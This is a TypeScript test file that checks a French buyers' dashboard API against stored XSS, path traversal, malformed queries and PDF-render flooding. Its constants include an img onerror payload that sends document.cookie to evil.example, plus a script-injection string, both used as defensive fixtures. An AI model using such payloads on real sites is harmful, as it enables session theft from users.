import { GapStore } from '../../src/store/GapStore';
import { freezeDate } from '../support/clock';
import { startTestApp, type TestApp } from '../support/startTestApp';
import { addAccounts, BUYER } from '../accounts/support';
import { type Answer, type Browser, call, signedIn } from './web/support';

freezeDate('2026-12-02T10:00:00Z');

const IMG = '<img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)"> pourquoi mon offre est rejetée ?';
const SCRIPT = '</script><script>alert(1)</script> le DC4 est-il obligatoire ?';

// Markup stored in a question (the recorder removes it, but a log written by an older version or by
// hand may hold it) is data: it leaves as JSON text, never as a page.
describe('attacks on the buyers’ dashboard APIs', () => {
  let app: TestApp;
  let buyer: Browser;

  beforeAll(async () => {
    app = await startTestApp();
    await addAccounts(app.config.dataDir, [BUYER]);
    buyer = await signedIn(app.url, BUYER.login, BUYER.password);
    // Straight into the log, past the recorder's cleaning.
    const store = new GapStore(app.config.dataDir);
    for (const question of [IMG, SCRIPT]) await store.append({ at: '2026-12-01T09:00:00.000Z', kind: 'UNANSWERED', question, channel: 'webchat', topicGuess: null, confidence: 0 });
    await store.flush();
  }, 60_000);
  afterAll(async () => app.cleanup());

  const get = (route: string, headers: Record<string, string> = {}): Promise<Answer> => call(`${app.url}${route}`, { headers: { cookie: buyer.cookie, ...headers } });

  it('returns a stored <img onerror> or <script> as JSON text, whatever the client asks for', async () => {
    for (const accept of ['application/json', 'text/html', '*/*']) {
      const answer = await get('/api/insights/gaps', { accept });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      const questions = (answer.json as { clusters: { representative: string; examples: string[] }[] }).clusters.flatMap((cluster) => [cluster.representative, ...cluster.examples]);
      expect(questions.sort()).toEqual([SCRIPT, IMG].sort());
    }
  });

  it('serves the page under a CSP that runs no inline script and loads nothing from elsewhere', async () => {
    const page = await get('/acheteurs');
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/(^|; )script-src 'self'(;|$)/);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/connect-src 'self'/);
    expect(page.text).not.toMatch(/https?:\/\/(?!www\.)/);
    expect(page.text).not.toMatch(/\son[a-z]+=/i);
  });

  it('keeps the CSV a table of text: markup is a cell like any other', async () => {
    const answer = await get('/api/insights/gaps.csv');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(answer.text).toContain('<img src=x onerror=""fetch(');
  });

  it('answers odd tender ids and queries with a plain refusal', async () => {
    const flag = (id: string, method = 'POST') => call(`${app.url}/api/insights/tenders/${id}/flag`, { method, headers: { cookie: buyer.cookie, 'x-csrf-token': buyer.csrf } });
    // The guard would read this path as /api/admin/flag while the router finds the flag route in it:
    // refused before any route runs (test/server/guardSpellings.test.ts tries every zone).
    const escaped = await flag('..%2F..%2Fadmin');
    expect(escaped.status).toBe(400);
    expect(escaped.message).toMatch(/Adresse invalide/);
    for (const id of ['%3Cscript%3E', 'x'.repeat(2000), 'example%3Animes-metropole-nettoyage-locaux%00']) {
      const answer = await flag(id);
      expect([id.slice(0, 20), answer.status]).toEqual([id.slice(0, 20), 404]);
      expect(answer.text).not.toContain('<script>');
    }
    expect((await flag('example%3Animes-metropole-nettoyage-locaux', 'GET')).status).toBe(405);
    for (const query of ['from[]=2026-11-01', 'from[a]=1', 'to=2026-11-01T00:00:00Z', `from=${'9'.repeat(5000)}`]) {
      expect((await get(`/api/insights/gaps?${query}`)).status).toBe(400);
    }
  });

  it('does not let a buyer looping on the digest PDF hold the server: one render at a time, a French 429 with Retry-After beyond', async () => {
    // Two years of different months at once, each of which would cost a full render: the first are
    // rendered (one at a time: test/server/insights/DigestPool.test.ts), the rest refused until the
    // queue has room again.
    const months = Array.from({ length: 24 }, (_, i) => `${2024 + Math.floor(i / 12)}-${String((i % 12) + 1).padStart(2, '0')}`);
    const answers = await Promise.all(months.map((month) => get(`/api/insights/digest.pdf?month=${month}`)));
    const refused = answers.filter((answer) => answer.status === 429);
    expect(answers.filter((answer) => answer.status !== 200 && answer.status !== 429)).toEqual([]);
    expect(answers.some((answer) => answer.status === 200)).toBe(true);
    expect(refused.length).toBeGreaterThan(0);
    for (const answer of refused) {
      expect(answer.headers.get('retry-after')).toMatch(/^[1-9]\d*$/);
      expect(answer.headers.get('content-type')).toMatch(/json/);
      expect(answer.message).toMatch(/^Trop de bulletins PDF sont en cours de préparation : réessayez dans \d+ secondes?\./);
    }
    // Meanwhile and afterwards the chat's door still answers, and the same month asked again and again
    // is served (the cached PDF, the same bytes).
    expect((await call(`${app.url}/healthz`)).status).toBe(200);
    const pdf = (month: string) => fetch(`${app.url}/api/insights/digest.pdf?month=${month}`, { headers: { cookie: buyer.cookie } });
    const first = Buffer.from(await (await pdf('2026-11')).arrayBuffer());
    const again = await Promise.all(Array.from({ length: 10 }, () => pdf('2026-11')));
    expect(again.map((response) => response.status)).toEqual(Array(10).fill(200));
    for (const response of again) expect(Buffer.from(await response.arrayBuffer()).equals(first)).toBe(true);
    expect(first.subarray(0, 5).toString('latin1')).toBe('%PDF-');
  }, 60_000);
});
